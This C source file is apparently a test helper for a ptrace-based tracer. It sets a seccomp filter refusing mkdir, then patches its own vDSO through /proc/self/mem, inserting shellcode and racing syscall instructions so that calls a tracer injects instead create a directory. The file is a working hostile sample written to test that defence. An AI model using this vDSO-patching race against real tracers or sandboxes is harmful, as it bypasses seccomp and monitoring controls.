/* Waits under a filter that refuses mkdir(2), while another thread changes to and fro the code by which a tracer would have it make a
 * call: wherever the vDSO makes one, it makes a directory instead, whose path is the only argument. Says that it is ready, and ends
 * with its input. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *path;

static void refuse_directories(void) {
  struct sock_filter filter[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mkdir, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog program = {sizeof filter / sizeof *filter, filter};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program)) exit(3);
}

/* mov $SYS_mkdir, %eax; mov $path, %rdi; mov $0700, %esi; syscall; jmp . */
static void write_evil(unsigned char *code) {
  unsigned char evil[] = {0xb8, SYS_mkdir, 0, 0, 0, 0x48, 0xbf, 0, 0, 0, 0, 0, 0, 0, 0, 0xbe, 0xc0, 1, 0, 0, 0x0f, 0x05, 0xeb, 0xfe};
  memcpy(evil + 7, &path, sizeof path);
  memcpy(code, evil, sizeof evil);
}

/* Page by page, until there are no more; by a file that takes no heed of what may be written to. */
static void *change_vdso(void *nothing) {
  static unsigned char vdso[1 << 16];
  off_t start = (off_t)getauxval(AT_SYSINFO_EHDR);
  int memory = open("/proc/self/mem", O_RDWR);
  size_t length = 0;
  while (length < sizeof vdso && pread(memory, vdso + length, 4096, start + length) == 4096) length += 4096;
  unsigned char *evil = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (evil == MAP_FAILED) exit(4);
  write_evil(evil);
  unsigned char jump[12] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0};
  memcpy(jump + 2, &evil, sizeof evil);
  size_t places[64];
  int count = 0;
  for (size_t at = 64; at + 1 < length && count < 64; at++)
    if (vdso[at] == 0x0f && vdso[at + 1] == 0x05) places[count++] = at;
  if (!count) exit(5);
  /* A jump of two bytes, back to one that leads anywhere. */
  unsigned char back[2] = {0xeb, (unsigned char)(-2 - 32)}, call[2] = {0x0f, 0x05};
  for (int i = 0; i < count; i++) pwrite(memory, jump, sizeof jump, start + places[i] - 32);
  for (unsigned long turn = 0;; turn++)
    for (int i = 0; i < count; i++) pwrite(memory, turn & 1 ? back : call, 2, start + places[i]);
  return nothing;
}

int main(int argc, char **argv) {
  char byte;
  if (argc < 2) return 2;
  path = argv[1];
  refuse_directories();
  if (!mkdir(path, 0700)) return 6;
  pthread_t thread;
  if (pthread_create(&thread, 0, change_vdso, 0)) return 7;
  write(1, "ready\n", 6);
  while (read(0, &byte, 1) == 1) {}
  _exit(0);
}
